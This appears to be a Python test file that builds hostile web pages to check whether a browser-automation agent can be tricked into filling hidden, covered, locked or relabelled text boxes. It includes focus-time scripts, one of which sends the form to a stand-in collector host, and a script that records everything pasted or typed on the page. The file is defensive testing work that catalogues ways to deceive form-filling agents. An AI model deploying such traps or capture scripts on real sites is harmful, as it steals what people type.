"""A box that is edited where it stands, and is not a person's to fill with this."""

from tests.browser.hostile.attack import Attack, looks
from tests.browser.hostile.claims import only_filled, page_learns_nothing
from tests.browser.hostile.pages import EMAIL, form, objection, page
from tests.browser.hostile.scene import Scene
from tests.browser.people import CAREFUL_ADA

WHY = "<p>Please tell us how this processing impacts you</p>"


def box(attributes: str = "", text: str = "") -> str:
    return (
        f"<div id=box role=textbox contenteditable=true data-own='{text}' {attributes}>{text}</div>"
    )


#: How the box is out of a person's reach, or not free.
TRAPS = {
    "transparent": f"{WHY}<div style='opacity:.05'>{box()}</div>",
    "moved away": f"{WHY}<div style='position:absolute;left:-9999px'>{box()}</div>",
    "without height": f"{WHY}<div style='height:0;overflow:hidden'>{box()}</div>",
    "covered": f"{WHY}<div style='position:relative'>{box()}<div style='position:absolute;inset:0;background:#fff'></div></div>",
    "locked": WHY + box("contenteditable=false").replace("contenteditable=true", ""),
    "locked by ARIA": WHY + box("aria-readonly=true"),
    "filled": WHY + box(text="In my own words."),
    "filled with a picture": WHY + box().replace("></div>", "><img alt='' src=data:,></div>"),
    "for something else": "<p>Email address</p>" + box(),
}

#: What the page does once the keyboard comes, before anything is written.
AT_FOCUS = {
    "hides itself": "box.style.opacity = 0",
    "asks for something else": "box.previousElementSibling.textContent = 'Full name'",
    "is typed into": "box.textContent = box.dataset.own = 'x'",
    "sends it elsewhere": "document.forms[0].action = 'https://collector.example/'",
    "goes to another address": "history.pushState({}, '', '/about/')",
}


def has_it_filled(scene: Scene) -> None:
    """By a press on the page: one that nobody has turned to hears of no keyboard."""
    scene.person.note.press("fill")
    looks(scene)


SPY = """window.loot = [];
for (const kind of ["paste", "beforeinput", "input"]) document.addEventListener(kind, (event) =>
  window.loot.push(event.data ?? event.clipboardData?.getData("text/plain") ?? event.target.textContent), true);"""

ATTACKS = [
    *(
        Attack(
            f"box that is {name}",
            "a page reads what was filled in where a person would not have",
            objection(EMAIL, trap, style="#box { min-height: 40px }"),
            (only_filled("email"),),
        )
        for name, trap in TRAPS.items()
    ),
    *(
        Attack(
            f"box that {name} when the keyboard comes",
            "what was true at the look is not at the writing",
            objection(
                WHY + box(),
                style="#box { min-height: 40px }",
                script=f"const box = document.getElementById('box'); box.onfocus = () => {{ {change} }}",
            ),
            (only_filled(), page_learns_nothing),
            steps=(looks, has_it_filled),
            profile=CAREFUL_ADA,
        )
        for name, change in AT_FOCUS.items()
    ),
    Attack(
        "box on a page that is no objection",
        "the page listens for what is pasted or typed by anybody",
        page(form(EMAIL, WHY + box(), title="Contact us"), script=SPY),
        (only_filled(), page_learns_nothing),
    ),
]
